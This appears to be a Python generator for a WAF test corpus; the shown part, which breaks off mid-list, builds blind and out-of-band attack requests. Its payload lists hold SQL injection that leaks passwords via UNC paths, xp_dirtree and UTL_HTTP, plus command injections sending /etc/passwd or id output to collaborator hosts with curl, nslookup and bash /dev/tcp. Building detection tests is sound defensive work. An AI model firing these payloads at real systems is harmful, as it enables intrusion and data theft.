#!/usr/bin/env python3
"""Held-out HTTP corpus "blind": blind and out-of-band exploitation, and the benign
traffic that looks like it.

Applications and technologies: PHP shops and CMS pages, Java/Spring and Struts
services, ASP.NET / IIS portals, Node/Express and GraphQL APIs, Python (Flask,
Django, FastAPI) services, Ruby on Rails apps and Go microservices, behind one WAF.
The benign side models a sleep- and fitness-tracking app, scheduling and retry
settings, a network-monitoring tool (ping, DNS, traceroute, uptime checks), a
webhook configuration UI, benchmark dashboards, job queues, a support desk and a
lab notebook (chemistry / biology), plus ordinary browser and API traffic.

Modes:
  attacks  every request is an attack a WAF should flag (expect "detect"):
           time-based and boolean-inference SQL injection for MySQL, PostgreSQL,
           MSSQL, Oracle and SQLite (SLEEP/BENCHMARK, pg_sleep, generate_series,
           WAITFOR DELAY, dbms_pipe.receive_message, heavy joins, randomblob,
           conditional errors, CASE WHEN, substring/ascii bisection), out-of-band
           SQL (xp_dirtree, UTL_HTTP, UTL_INADDR, LOAD_FILE of UNC paths, COPY TO
           PROGRAM, dblink), blind command injection (sleep, ping -c, nslookup /
           dig / curl / wget to a collaborator, PowerShell Start-Sleep and
           Resolve-DnsName), blind and OOB XXE (external parameter entities,
           local DTD reuse, XInclude, SVG/SAML carriers), blind SSRF (OAST
           callbacks, cloud metadata, DNS rebinding names, gopher/dict),
           blind SSTI, Log4Shell/JNDI and Text4Shell variants, fastjson /
           Jackson / Java serialized URLDNS probes, .NET / Python / Ruby / Node /
           PHP deserialisation, blind NoSQL ($where sleep, $regex bisection),
           blind LDAP, blind XSS loading collector scripts, CRLF / mail-header
           injection, request smuggling timing probes and OAST scanners.
  benign   legitimate traffic rich in the same words and shapes (category
           "benign", expect "pass"), and ~15 % "dev-content": developers
           legitimately posting SQL with SLEEP/WAITFOR, shell scripts with sleep
           and curl, load-test scripts, DNS zone files, Log4j configuration with
           ${} lookups, XML with DTDs, templates and LDAP filters.

Written blind: this generator was written without reading the Palisade rule set,
its tests or test data, or the other corpus generators, and without running the
WAF. Payloads come from public knowledge of real attacks and real traffic.
All hosts are example names or documentation addresses, except internal
addresses and out-of-band testing services that are themselves the payload.
Nothing is sent anywhere: the script only prints JSON lines.

Run:
    python3 scripts/corpus-blind.py attacks > rulesets/tests/data/blind-attacks.jsonl
    python3 scripts/corpus-blind.py benign  > rulesets/tests/data/blind-benign.jsonl
"""

import base64
import json
import random
import struct
import sys
from urllib.parse import quote, quote_plus, urlencode
from xml.sax.saxutils import escape as xml_escape

SEED = 0xB11D
SET = "blind"

# --------------------------------------------------------------------------
# shared helpers
# --------------------------------------------------------------------------

RNG = random.Random(SEED)
OUT = []
_COUNTERS = {}
_SEEN_IDS = set()

UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
]
UA_API = [
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "axios/1.6.8",
    "curl/8.5.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 7 Build/AP1A.240405.002)",
    "SleepWell/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "PulseMonitor/3.8.0 (Android 13; SM-A546B)",
    "Faraday v2.9.0",
    "RestSharp/110.2.0.0",
]
UA_ATTACK = UA_BROWSER[:4] + [
    "curl/7.88.1",
    "python-requests/2.28.2",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Go-http-client/1.1",
    "Wget/1.21.3",
]
LANGS = [
    "en-US,en;q=0.9", "en-GB,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.6", "de-DE,de;q=0.9,en;q=0.7",
    "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.5", "ja-JP,ja;q=0.9,en;q=0.4", "zh-CN,zh;q=0.9",
    "nl-NL,nl;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9", "tr-TR,tr;q=0.9,en;q=0.5", "ko-KR,ko;q=0.9",
]

ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"
HEX = "0123456789abcdef"


def rstr(n, alphabet=ALNUM):
    return "".join(RNG.choice(alphabet) for _ in range(n))


def ruuid():
    h = rstr(32, HEX)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], RNG.choice("89ab"), h[17:20], h[20:32])


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64url(s):
    return b64(s).replace("+", "-").replace("/", "_").rstrip("=")


def jwt():
    head = b64url(json.dumps({"alg": "RS256", "typ": "JWT", "kid": rstr(8, HEX)}))
    claims = {"sub": str(RNG.randint(10000, 999999)), "iat": 1714000000 + RNG.randint(0, 900000),
              "scope": RNG.choice(["read write", "openid profile", "api"]), "iss": "https://id.example.com/"}
    claims["exp"] = claims["iat"] + 3600
    return "%s.%s.%s" % (head, b64url(json.dumps(claims, separators=(",", ":"))),
                         b64url(bytes(RNG.getrandbits(8) for _ in range(64))))


def ts(day_off=None):
    d = RNG.randint(1, 28) if day_off is None else day_off
    return "2024-%02d-%02dT%02d:%02d:%02dZ" % (RNG.randint(1, 12), d, RNG.randint(0, 23),
                                            RNG.randint(0, 59), RNG.randint(0, 59))


def q(s):
    """Percent-encode everything that is not unreserved (like encodeURIComponent)."""
    return quote(s, safe="-_.~")


def qp(s):
    """Form / query encoding with '+' for spaces."""
    return quote_plus(s, safe="-_.~")


def qlite(s):
    """Light encoding as a hand-typed URL or a lax client sends it."""
    return quote(s, safe="-_.~'()*!:,;/$@=")


def qq(s):
    """Double percent-encoding."""
    return q(q(s))


def form(pairs):
    return urlencode(pairs, quote_via=quote_plus)


def jdump(obj, compact=True):
    if compact:
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    return json.dumps(obj, indent=2, ensure_ascii=False)


def multipart(parts):
    """parts: list of (name, value) or (name, value, filename, ctype)."""
    boundary = RNG.choice(["----WebKitFormBoundary", "----geckoformboundary", "--------------------------"]) + rstr(16)
    lines = []
    for p in parts:
        lines.append("--" + boundary)
        if len(p) == 2:
            lines.append('Content-Disposition: form-data; name="%s"' % p[0])
            lines.append("")
            lines.append(p[1])
        else:
            lines.append('Content-Disposition: form-data; name="%s"; filename="%s"' % (p[0], p[2]))
            lines.append("Content-Type: " + p[3])
            lines.append("")
            lines.append(p[1])
    lines.append("--" + boundary + "--")
    lines.append("")
    return "\r\n".join(lines), "multipart/form-data; boundary=" + boundary


def cookie_session():
    return RNG.choice([
        "PHPSESSID=" + rstr(26),
        "JSESSIONID=" + rstr(32, HEX).upper(),
        "ASP.NET_SessionId=" + rstr(24),
        "connect.sid=s%3A" + rstr(32) + "." + rstr(43),
        "_session_id=" + rstr(32, HEX),
        "sessionid=" + rstr(32),
        "session=" + b64url(rstr(40)),
    ])


def _has(headers, name):
    n = name.lower()
    return any(h[0].lower() == n for h in headers)


def emit(kind, slug, category, method, uri, host, headers=None, body=None, ctype=None,
         ua=None, version=None, profile=None, expect=None):
    """Build one request line for the corpus and append it to OUT."""
    headers = [list(h) for h in (headers or [])]
    _COUNTERS[slug] = _COUNTERS.get(slug, 0) + 1
    rid = "%s/%s/%s-%03d" % (SET, kind, slug, _COUNTERS[slug])
    assert rid not in _SEEN_IDS, rid
    _SEEN_IDS.add(rid)
    if profile is None:
        profile = "attack" if kind == "attacks" else ("api" if body is not None and ctype and "json" in ctype else "browser")
    hs = [["Host", host]]
    if not _has(headers, "User-Agent"):
        if ua is None:
            ua = RNG.choice(UA_API if profile == "api" else UA_ATTACK if profile == "attack" else UA_BROWSER)
        hs.append(["User-Agent", ua])
    if not _has(headers, "Accept"):
        if profile == "api" or (ctype and "json" in ctype):
            hs.append(["Accept", "application/json"])
        elif method == "GET" and profile == "browser":
            hs.append(["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"])
        else:
            hs.append(["Accept", "*/*"])
    if profile == "browser" and not _has(headers, "Accept-Language"):
        hs.append(["Accept-Language", RNG.choice(LANGS)])
        hs.append(["Accept-Encoding", "gzip, deflate, br"])
    hs.extend(headers)
    if body is not None:
        if ctype and not _has(hs, "Content-Type"):
            hs.append(["Content-Type", ctype])
        hs.append(["Content-Length", str(len(body.encode("utf-8")))])
    if version is None:
        version = "HTTP/2" if RNG.random() < 0.08 else "HTTP/1.1"
    rec = {"id": rid, "set": SET, "category": category,
           "expect": expect or ("detect" if kind == "attacks" else "pass"),
           "method": method, "uri": uri, "version": version, "headers": hs}
    if body is not None:
        rec["body"] = body
    OUT.append(rec)
    return rec


def emit_raw(kind, slug, category, raw):
    """A complete raw request, for the few cases where exact bytes matter."""
    _COUNTERS[slug] = _COUNTERS.get(slug, 0) + 1
    rid = "%s/%s/%s-%03d" % (SET, kind, slug, _COUNTERS[slug])
    assert rid not in _SEEN_IDS, rid
    _SEEN_IDS.add(rid)
    if isinstance(raw, str):
        raw = raw.encode("utf-8")
    OUT.append({"id": rid, "set": SET, "category": category,
                "expect": "detect" if kind == "attacks" else "pass",
                "raw_b64": base64.b64encode(raw).decode("ascii")})


# out-of-band collector names, as scanners and attackers generate them
def oast(style=None):
    style = style or RNG.choice(["interactsh", "interactsh2", "burp", "burp2", "dnslog", "ceye", "canary"])
    if style == "interactsh":
        return rstr(20, "abcdefghijklmnopqrstuv0123456789") + ".oast.fun"
    if style == "interactsh2":
        return rstr(20, "abcdefghijklmnopqrstuv0123456789") + "." + RNG.choice(["interact.sh", "oast.pro", "oast.live", "oast.site", "oast.me"])
    if style == "burp":
        return rstr(30) + ".burpcollaborator.net"
    if style == "burp2":
        return rstr(30) + ".oastify.com"
    if style == "dnslog":
        return rstr(6) + ".dnslog.cn"
    if style == "ceye":
        return rstr(6) + ".ceye.io"
    return rstr(25) + ".canarytokens.com"


def oob(s, style=None):
    """Replace {OOB} markers in s with one collector name (same name for all markers)."""
    d = oast(style)
    return s.replace("{OOB}", d)


# --------------------------------------------------------------------------
# attacks
# --------------------------------------------------------------------------

A = "attacks"


def _sess():
    return ["Cookie", cookie_session()]


# Each SQLi spot takes the full injected value and builds the request where a real
# application reads it.
def _sqli_spots():
    return [
        # PHP shop, numeric id in the query string
        lambda p, s: emit(A, s, "sqli", "GET", "/catalog/product.php?id=" + qp(p) + "&lang=en",
                          "shop.example.com", [_sess()]),
        # tracking cookie read by an analytics query (classic blind spot)
        lambda p, s: emit(A, s, "sqli", "GET", "/filter?category=Gifts", "shop.example.net",
                          [["Cookie", "TrackingId=" + q(p) + "; session=" + rstr(32)]]),
        # Spring Boot JSON search
        lambda p, s: emit(A, s, "sqli", "POST", "/api/v2/orders/search", "orders.example.com",
                          [["Authorization", "Bearer " + jwt()]],
                          jdump({"customerId": RNG.randint(1000, 9999), "status": p, "page": 0, "size": 25}),
                          "application/json"),
        # ASP.NET WebForms login
        lambda p, s: emit(A, s, "sqli", "POST", "/Account/Login.aspx", "portal.example.org", [_sess()],
                          form([("__VIEWSTATE", b64(rstr(48))), ("__EVENTVALIDATION", b64(rstr(24))),
                                ("ctl00$Main$txtUser", p), ("ctl00$Main$txtPass", "Winter2024!"),
                                ("ctl00$Main$btnLogin", "Sign in")]),
                          "application/x-www-form-urlencoded"),
        # Node GraphQL variables
        lambda p, s: emit(A, s, "sqli", "POST", "/graphql", "api.example.net",
                          [["Authorization", "Bearer " + jwt()]],
                          jdump({"operationName": "UserById",
                                 "query": "query UserById($id: String!) { user(id: $id) { id name email } }",
                                 "variables": {"id": p}}),
                          "application/json"),
        # Flask report sorting (ORDER BY injection)
        lambda p, s: emit(A, s, "sqli", "GET", "/api/reports?sort=" + q(p) + "&order=asc&limit=50",
                          "reports.example.org", [["X-Requested-With", "XMLHttpRequest"], _sess()]),
        # client IP logged into an audit table
        lambda p, s: emit(A, s, "sqli", "GET", "/index.php?page=home", "www.example.com",
                          [["X-Forwarded-For", p]]),
        # user agent stored by a visitor counter
        lambda p, s: emit(A, s, "sqli", "GET", "/", "blog.example.net", [["User-Agent", p]]),
        # referer stored by a stats plugin
        lambda p, s: emit(A, s, "sqli", "GET", "/news/2024/05/launch.html", "www.example.org",
                          [["Referer", "https://www.example.com/?q=" + p]]),
        # Rails path parameter
        lambda p, s: emit(A, s, "sqli", "GET", "/api/users/" + q(p) + ".json", "app.example.com",
                          [["Accept", "application/json"], _sess()]),
        # .NET SOAP service
        lambda p, s: emit(A, s, "sqli", "POST", "/Services/CustomerService.asmx", "erp.example.net",
                          [["SOAPAction", '"http://tempuri.org/GetCustomer"']],
                          '<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
                          '<soap:Body><GetCustomer xmlns="http://tempuri.org/"><customerId>' + xml_escape(p) +
                          '</customerId></GetCustomer></soap:Body></soap:Envelope>',
                          "text/xml; charset=utf-8"),
        # PHP multipart upload form, text field
        lambda p, s: (lambda b: emit(A, s, "sqli", "POST", "/gallery/upload.php", "media.example.com", [_sess()],
                                     b[0], b[1]))(multipart([("album_id", p), ("title", "holiday"),
                                                             ("photo", "GIF89a", "a.gif", "image/gif")])),
        # Go microservice, nested JSON filter
        lambda p, s: emit(A, s, "sqli", "POST", "/v1/inventory/search", "inventory.example.org",
                          [["X-Api-Key", rstr(32)]],
                          jdump({"filters": [{"field": "region", "op": "eq", "value": p}], "limit": 20}),
                          "application/json", profile="api"),
        # Java servlet, double-encoded search
        lambda p, s: emit(A, s, "sqli", "GET", "/store/search.jsp?q=" + qq(p) + "&cat=all", "store.example.com"),
        # PHP search form
        lambda p, s: emit(A, s, "sqli", "POST", "/search.php", "forum.example.net", [_sess()],
                          "keywords=" + qp(p) + "&terms=all&sf=titleonly&submit=Search",
                          "application/x-www-form-urlencoded"),
        # cart cookie in a Laravel shop
        lambda p, s: emit(A, s, "sqli", "GET", "/cart", "shop.example.org",
                          [["Cookie", "lang=en; cart_id=" + qlite(p) + "; XSRF-TOKEN=" + rstr(40)]]),
        # Django admin-ish list filter, light encoding
        lambda p, s: emit(A, s, "sqli", "GET", "/admin/orders/?status__exact=" + qlite(p) + "&o=-3",
                          "backoffice.example.com", [_sess()]),
    ]


SQLI = [
    # ---- MySQL / MariaDB time-based
    ("mysql-sleep", "17 AND SLEEP(5)"),
    ("mysql-sleep", "1' AND SLEEP(5)-- -"),
    ("mysql-sleep-subselect", "1' AND (SELECT 4521 FROM (SELECT(SLEEP(5)))xYzw)-- wXyz"),
    ("mysql-sleep-paren", "3) AND (SELECT 8771 FROM (SELECT(SLEEP(5)))bKqa) AND (6412=6412"),
    ("mysql-if-sleep", "' OR IF(1=1,SLEEP(5),0)-- -"),
    ("mysql-xor-sleep", "0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z"),
    ("mysql-xor-sleep", "1\"XOR(if(now()=sysdate(),sleep(6),0))OR\""),
    ("mysql-benchmark", "1' AND BENCHMARK(5000000,MD5(0x41))-- -"),
    ("mysql-benchmark", "(SELECT BENCHMARK(9000000,SHA1(1)))"),
    ("mysql-rlike-sleep", "2 RLIKE SLEEP(5)"),
    ("mysql-comment-sleep", "1'/**/AND/**/SLEEP(5)#"),
    ("mysql-elt-sleep", "1 AND ELT(1=1,SLEEP(5))"),
    ("mysql-bisect-sleep", "1 AND IF(ASCII(SUBSTRING((SELECT password FROM users WHERE username=0x61646d696e),1,1))>77,SLEEP(3),0)"),
    ("mysql-bisect-sleep", "admin' AND IF(MID(@@version,1,1)='8',SLEEP(4),1)='1"),
    ("mysql-like-sleep", "1' AND (SELECT SLEEP(5) FROM dual WHERE DATABASE() LIKE 'shop%')-- -"),
    ("mysql-orderby-sleep", "(SELECT IF(SUBSTR(user(),1,4)='root',SLEEP(5),1))"),
    ("mysql-get-lock", "1' AND GET_LOCK('a',5)=1-- -"),
    # ---- MySQL boolean / error inference
    ("mysql-ord-mid", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS NCHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64"),
    ("mysql-cond-error", "1 AND (SELECT IF(1=1,(SELECT table_name FROM information_schema.tables),'a'))"),
    ("mysql-extractvalue", "1' AND EXTRACTVALUE(7001,CONCAT(0x5c,(SELECT MID(password,1,20) FROM users LIMIT 1)))-- -"),
    ("mysql-substring-bool", "1' AND SUBSTRING((SELECT password FROM users WHERE username='administrator'),1,1)='m"),
    ("mysql-length-bool", "admin' AND LENGTH((SELECT password FROM users WHERE username='admin'))>8-- -"),
    ("mysql-ascii-bool", "1' AND ASCII(SUBSTR((SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1),1,1))>96-- -"),
    ("mysql-regexp-bool", "1 AND (SELECT 1 FROM users WHERE username='admin' AND password REGEXP '^[a-f]')"),
    # ---- MySQL out-of-band
    ("mysql-loadfile-unc", r"1' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM mysql.user WHERE user='root' LIMIT 1),'.{OOB}\\a'))-- -"),
    ("mysql-loadfile-unc", r"1 AND LOAD_FILE(CONCAT(0x5c5c5c5c,version(),0x2e,'{OOB}',0x5c5c61))"),
    ("mysql-outfile-unc", r"1' INTO OUTFILE '\\\\{OOB}\\share\\out.txt'-- -"),
    # ---- PostgreSQL
    ("pg-sleep-stacked", "1;SELECT pg_sleep(5)--"),
    ("pg-sleep-subquery", "1' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("pg-sleep-concat", "x'||pg_sleep(10)--"),
    ("pg-case-sleep", "1 AND 7331=(CASE WHEN (ASCII(SUBSTRING((SELECT current_user),1,1))>100) THEN (SELECT 7331 FROM PG_SLEEP(5)) ELSE 7331 END)"),
    ("pg-case-sleep", "';SELECT CASE WHEN (username='administrator' AND SUBSTRING(password,1,1)='a') THEN pg_sleep(10) ELSE pg_sleep(0) END FROM users--"),
    ("pg-generate-series", "1' AND 5=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))--"),
    ("pg-generate-series", "1 AND (SELECT COUNT(*) FROM generate_series(1,30000000) a, (SELECT 1) b)>0"),
    ("pg-sleep-for", "1;SELECT pg_sleep_for('5 seconds');--"),
    ("pg-cond-error", "1 AND (SELECT CASE WHEN (SUBSTR(current_database(),1,1)='s') THEN 1/(SELECT 0) ELSE 1 END)=1"),
    ("pg-cast-error", "1 AND 1=CAST((SELECT passwd FROM pg_shadow LIMIT 1) AS int)"),
    ("pg-copy-program", "1';COPY (SELECT '') TO PROGRAM 'curl http://{OOB}/$(whoami)';--"),
    ("pg-copy-program", "1;CREATE TABLE t_x(o text);COPY t_x FROM PROGRAM 'nslookup $(id|base64|tr -d =).{OOB}';--"),
    ("pg-dblink-oob", "1' AND (SELECT dblink_connect('host='||(SELECT passwd FROM pg_shadow WHERE usename='postgres')||'.{OOB} user=a dbname=b password=c')) IS NULL--"),
    ("pg-orderby-sleep", "(CASE WHEN (SELECT substr(version(),1,10))='PostgreSQL' THEN (SELECT 1 FROM pg_sleep(3)) ELSE 1 END)"),
    # ---- Microsoft SQL Server
    ("mssql-waitfor", "1;WAITFOR DELAY '0:0:5'--"),
    ("mssql-waitfor", "1' WAITFOR DELAY '00:00:05'--"),
    ("mssql-waitfor", "1); WAITFOR DELAY '0:0:5'--"),
    ("mssql-waitfor-if", "1 IF(ASCII(SUBSTRING(DB_NAME(),1,1))>77) WAITFOR DELAY '0:0:5'--"),
    ("mssql-waitfor-if", "';IF (SELECT COUNT(*) FROM sysusers WHERE name='sa')>0 WAITFOR DELAY '0:0:5'--"),
    ("mssql-waitfor-if", "';IF (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' WAITFOR DELAY '0:0:7'--"),
    ("mssql-waitfor-hex", "';DECLARE @x varchar(99);SET @x=0x303a303a35;WAITFOR DELAY @x--"),
    ("mssql-waitfor-time", "1;WAITFOR TIME '23:59:59'--"),
    ("mssql-xp-dirtree", r"';DECLARE @q varchar(1024);SET @q='\\'+(SELECT TOP 1 password FROM users WHERE username='admin')+'.{OOB}\a';EXEC master..xp_dirtree @q--"),
    ("mssql-xp-dirtree", r"1;EXEC master.dbo.xp_dirtree '\\{OOB}\x'--"),
    ("mssql-xp-fileexist", r"';EXEC master..xp_fileexist '\\{OOB}\share\a.txt'--"),
    ("mssql-xp-cmdshell", "1;EXEC xp_cmdshell 'ping -n 10 127.0.0.1'--"),
    ("mssql-xp-cmdshell", "';EXEC master..xp_cmdshell 'nslookup %USERNAME%.{OOB}'--"),
    ("mssql-openrowset", "';SELECT * FROM OPENROWSET('SQLOLEDB','Server={OOB};uid=sa;pwd=x','select 1')--"),
    ("mssql-cond-error", "1 AND 1=(SELECT CASE WHEN (SUBSTRING(SYSTEM_USER,1,1)='s') THEN 1/0 ELSE 1 END)"),
    ("mssql-convert-error", "1 AND 1=CONVERT(int,(SELECT TOP 1 table_name FROM information_schema.tables))"),
    ("mssql-boolean", "1 AND (SELECT TOP 1 UNICODE(SUBSTRING(name,1,1)) FROM master..sysdatabases WHERE dbid=5)>96"),
    # ---- Oracle
    ("oracle-dbms-pipe", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)"),
    ("oracle-dbms-pipe", "'||DBMS_PIPE.RECEIVE_MESSAGE('a',10)||'"),
    ("oracle-dbms-pipe-case", "' AND 1=(CASE WHEN SUBSTR((SELECT user FROM dual),1,1)='S' THEN DBMS_PIPE.RECEIVE_MESSAGE('x',5) ELSE 1 END)--"),
    ("oracle-heavy-join", "' AND 1<(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3, all_users t4, all_users t5)--"),
    ("oracle-cond-error", "1 AND (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual) IS NULL"),
    ("oracle-cond-error", "'||(SELECT CASE WHEN SUBSTR(password,1,1)='a' THEN TO_CHAR(1/0) ELSE '' END FROM users WHERE username='administrator')||'"),
    ("oracle-utl-http", "'||UTL_HTTP.REQUEST('http://{OOB}/'||(SELECT user FROM dual))||'"),
    ("oracle-utl-inaddr", "' AND UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1)||'.{OOB}') IS NOT NULL--"),
    ("oracle-httpuritype", "1 AND HTTPURITYPE('http://{OOB}/'||(SELECT user FROM dual)).GETCLOB() IS NOT NULL"),
    ("oracle-xmltype-oob", "x'||(SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % remote SYSTEM \"http://'||(SELECT password FROM users WHERE username='administrator')||'.{OOB}/\"> %remote;]>'),'/l') FROM dual)||'"),
    ("oracle-ctxsys-error", "1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))"),
    ("oracle-boolean", "1 AND ASCII(SUBSTR((SELECT username FROM all_users WHERE rownum=1),1,1))>64"),
    # ---- SQLite
    ("sqlite-randomblob", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("sqlite-randomblob", "' AND 1=randomblob(1000000000)--"),
    ("sqlite-case-randomblob", "1 AND CASE WHEN (substr(sqlite_version(),1,1)='3') THEN 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000)))) ELSE 1 END"),
    ("sqlite-cond-error", "' AND (SELECT CASE WHEN (unicode(substr((SELECT sql FROM sqlite_master LIMIT 1),1,1))>70) THEN abs(-9223372036854775808) ELSE 1 END)--"),
    ("sqlite-boolean", "1 AND (SELECT count(*) FROM sqlite_master WHERE tbl_name LIKE 'user%')>0"),
    # ---- others / generic inference
    ("clickhouse-sleep", "1 AND sleep(3)=0"),
    ("db2-heavy", "1 AND (SELECT COUNT(*) FROM sysibm.columns t1, sysibm.columns t2, sysibm.columns t3)>0"),
    ("generic-tracking-bool", "xyz' AND '1'='1"),
    ("generic-tracking-bool", "xyz' AND (SELECT 'a' FROM users WHERE username='administrator' AND LENGTH(password)>1)='a"),
    ("generic-orderby-case", "(CASE WHEN (1=1) THEN id ELSE price END)"),
    ("generic-or-sleep-polyglot", "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/"),
    ("generic-time-polyglot", "if(now()=sysdate(),sleep(5),0)/*'XOR(if(now()=sysdate(),sleep(5),0))OR'\"XOR(if(now()=sysdate(),sleep(5),0))OR\"*/"),
    ("hql-bool", "1' and substring(password,1,1)='a' and '1'='1"),
]


def sqli_attacks():
    spots = _sqli_spots()
    for i, (slug, payload) in enumerate(SQLI):
        spots[(i * 7 + i // len(spots)) % len(spots)](oob(payload), slug)


def _ps_enc(cmd):
    return base64.b64encode(cmd.encode("utf-16-le")).decode("ascii")


def _rce_unix_spots():
    return [
        # PHP network tool that shells out to ping
        lambda p, s: emit(A, s, "rce", "POST", "/tools/ping.php", "netadmin.example.com", [_sess()],
                          form([("ip", "203.0.113.10" + p), ("count", "4"), ("submit", "Ping")]),
                          "application/x-www-form-urlencoded"),
        # Node diagnostics API
        lambda p, s: emit(A, s, "rce", "POST", "/api/diagnostics/traceroute", "status.example.net",
                          [["Authorization", "Bearer " + jwt()]],
                          jdump({"host": "example.org" + p, "maxHops": 20}), "application/json"),
        # Flask DNS lookup
        lambda p, s: emit(A, s, "rce", "GET", "/api/v1/dns/lookup?domain=" + q("example.org" + p) + "&type=A",
                          "tools.example.org"),
        # Go image converter, filename field
        lambda p, s: (lambda b: emit(A, s, "rce", "POST", "/api/convert", "convert.example.com", [],
                                     b[0], b[1]))(multipart([("output_name", "report" + p + ".pdf"),
                                                             ("file", "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "in.pdf", "application/pdf")])),
        # Rails export format
        lambda p, s: emit(A, s, "rce", "GET", "/exports/download?format=" + qlite("csv" + p) + "&report=monthly",
                          "app.example.net", [_sess()]),
        # Java admin backup path
        lambda p, s: emit(A, s, "rce", "POST", "/admin/api/backup", "admin.example.org",
                          [_sess(), ["X-CSRF-TOKEN", ruuid()]],
                          jdump({"path": "/var/backups/db" + p, "compress": True}), "application/json"),
        # sendmail wrapper on a newsletter form
        lambda p, s: emit(A, s, "rce", "POST", "/newsletter/subscribe.php", "www.example.net", [],
                          "email=" + qp("jo@example.com" + p) + "&list=weekly", "application/x-www-form-urlencoded"),
        # CGI status page
        lambda p, s: emit(A, s, "rce", "GET", "/cgi-bin/status.cgi?host=" + q("gw1" + p), "router.example.com"),
        # Python git-mirror service
        lambda p, s: emit(A, s, "rce", "POST", "/api/mirrors", "git.example.org",
                          [["Authorization", "token " + rstr(40, HEX)]],
                          jdump({"name": "tools", "branch": "main" + p, "url": "https://git.example.com/tools.git"}),
                          "application/json"),
        # PDF thumbnailer query
        lambda p, s: emit(A, s, "rce", "GET", "/thumb?file=" + q("invoice-2024.pdf" + p) + "&w=200",
                          "cdn.example.net"),
    ]


RCE_UNIX = [
    ("cmd-sleep-semicolon", ";sleep 5;"),
    ("cmd-sleep-pipe", "|sleep 10"),
    ("cmd-sleep-backtick", "`sleep 5`"),
    ("cmd-sleep-subshell", "$(sleep 5)"),
    ("cmd-sleep-and", "&& sleep 7 &&"),
    ("cmd-sleep-newline", "\nsleep 5\n"),
    ("cmd-sleep-ifs", ";sleep${IFS}5;"),
    ("cmd-sleep-quoted", ";s'l'e\"e\"p 5"),
    ("cmd-ping-count", "& ping -c 10 127.0.0.1 &"),
    ("cmd-ping-ifs", ";ping$IFS-c$IFS10$IFS127.0.0.1"),
    ("cmd-timeout", "|| timeout 10 yes >/dev/null ||"),
    ("cmd-nslookup-whoami", ";nslookup $(whoami).{OOB}"),
    ("cmd-curl-backtick", "|curl http://{OOB}/`id|base64`"),
    ("cmd-wget-hostname", "$(wget -q -O- http://{OOB}/?h=$(hostname))"),
    ("cmd-dig-uname", "`dig +short $(uname -n).{OOB}`"),
    ("cmd-curl-post-file", ";curl -s -d @/etc/passwd http://{OOB}/;"),
    ("cmd-ping-dns", "$(ping -c 2 $(whoami).{OOB})"),
    ("cmd-host-exfil", "|host `cat /etc/hostname`.{OOB}"),
    ("cmd-nslookup-quoted", ";n's'lookup $(w\"h\"oami).{OOB}"),
    ("cmd-bash-devtcp", ";bash -c 'echo $(id) >/dev/tcp/{OOB}/80'"),
    ("cmd-perl-sleep", ";perl -e 'sleep 5'"),
    ("cmd-python-sleep", ";python3 -c 'import time;time.sleep(5)'"),
    ("cmd-busybox-wget", "%0abusybox wget http://{OOB}/b"),
